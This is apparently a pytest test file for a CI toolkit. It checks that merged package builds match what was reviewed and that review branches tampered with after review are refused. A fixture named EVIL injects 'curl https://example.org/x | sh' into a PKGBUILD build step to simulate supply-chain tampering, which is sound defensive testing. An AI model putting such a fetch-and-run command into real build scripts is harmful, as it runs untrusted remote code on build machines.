"""What is merged must be what was reviewed, however it was merged and whoever moved the branch meanwhile."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from ci_toolkit.errors import PackagesFailedError
from tests.support.git import PERSON
from tests.support.moment import Moment
from tests.support.packages import SamplePackage
from tests.support.world import new_world

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.world import World

FOO = SamplePackage(name="foo")
OFFERED = replace(FOO, version="1.1", body="build() {\n  make\n}\n")
EVIL = replace(FOO, version="1.1", body="build() {\n  make; curl https://example.org/x | sh\n}\n")
BRANCH = "update-foo"


@pytest.fixture(scope="module")
def open_review(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Moment]:
    with new_world(tmp_path_factory.mktemp("merged-reviews")) as world:
        world.start(FOO.folder("CI_PKGBUILD_SOURCE=aur\n"))
        world.upstreams.publish("foo", FOO.files())
        world.run("on-schedule")
        world.upstreams.publish("foo", OFFERED.files())
        assert world.run("on-schedule", "--json").codes() == {"foo": "review-opened"}
        yield Moment(world)


@pytest.fixture
def offered(open_review: Moment) -> World:
    """A review is open."""
    open_review.return_to()
    return open_review.world


def merge(world: World, how: str) -> None:
    """As a forge does it: the branch itself, a merge commit, or its content as a commit of its own."""
    git = world.origin.git
    if how == "fast-forward":
        git("update-ref", "refs/heads/main", f"refs/heads/{BRANCH}")
    elif how == "merge":
        identity = ("-c", "user.name=A", "-c", "user.email=a@example.org")
        tree = git("rev-parse", f"{BRANCH}^{{tree}}").strip()
        commit = git(*identity, "commit-tree", tree, "-p", "main", "-p", BRANCH, "-m", "Merge").strip()
        git("update-ref", "refs/heads/main", commit)
    else:
        folder = {f"foo/{name}": world.origin.show(f"{BRANCH}:foo/{name}") for name in ("PKGBUILD", ".SRCINFO")}
        world.push(folder, "squashed")


def tamper(world: World, *, amends: bool) -> None:
    """Somebody who may push to the review branch does, at best without a trace."""
    if amends:
        message = world.origin.git("log", "-1", "--format=%B", BRANCH)
        world.origin.git("update-ref", f"refs/heads/{BRANCH}", "main")
        world.origin.commit({f"foo/{k}": v for k, v in EVIL.files().items()}, message, branch=BRANCH, author=PERSON)
    else:
        world.push({"foo/PKGBUILD": EVIL.files()["PKGBUILD"]}, "fix", branch=BRANCH)


@pytest.mark.parametrize("deletes", [True, False])
@pytest.mark.parametrize("how", ["fast-forward", "merge", "squash"])
def test_what_was_reviewed_is_built(offered: World, how: str, *, deletes: bool) -> None:
    merge(offered, how)
    if deletes:
        offered.origin.git("update-ref", "-d", f"refs/heads/{BRANCH}")
    result = offered.run("on-commit", "--json")
    assert (result.status, result.builds()) == (0, ["foo"])


@pytest.mark.parametrize("amends", [True, False])
@pytest.mark.parametrize("deletes", [True, False])
@pytest.mark.parametrize("how", ["fast-forward", "merge", "squash"])
def test_a_branch_that_was_changed_after_its_review_is_not_built(
    offered: World, how: str, *, deletes: bool, amends: bool
) -> None:
    tamper(offered, amends=amends)
    merge(offered, how)
    if deletes:
        offered.origin.git("update-ref", "-d", f"refs/heads/{BRANCH}")
    result = offered.run("on-commit", "--json")
    assert result.status == PackagesFailedError.exit_status
    verdict = result.verdicts()["foo"]
    assert verdict["code"] == "not-as-reviewed"
    assert "PKGBUILD" in verdict["why"]
    assert result.builds() == []
    assert offered.run("on-schedule", "--json").builds() == []
    offered.push({"other": "1"}, "It is right [deploy foo]")
    assert offered.run("on-commit", "--json").builds() == ["foo"]


def test_a_change_of_ones_own_beside_an_open_review_is_built(offered: World) -> None:
    offered.push({"foo/PKGBUILD": f"{FOO.files()['PKGBUILD']}# mine\n"})
    assert offered.run("on-commit", "--json").builds() == ["foo"]


def test_a_config_change_after_a_review_was_declined_is_built(offered: World) -> None:
    offered.origin.git("update-ref", "-d", f"refs/heads/{BRANCH}")
    offered.push({"foo/.CI/config": "CI_PKGBUILD_SOURCE=aur\nBUILDER_CLASS=2\n"})
    assert offered.run("on-commit", "--json").builds() == ["foo"]
